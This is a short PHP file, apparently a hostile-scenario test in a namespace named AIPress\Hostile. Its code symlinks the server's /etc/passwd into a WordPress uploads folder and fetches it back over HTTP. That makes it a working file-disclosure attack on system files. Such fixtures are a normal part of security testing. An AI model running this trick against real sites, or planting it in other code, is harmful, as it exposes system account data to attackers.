<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

symlink('/etc/passwd', target()['attacker']['media'] . '/system.txt');
echo get(target()['attacker']['host'], '/wp-content/uploads/system.txt');
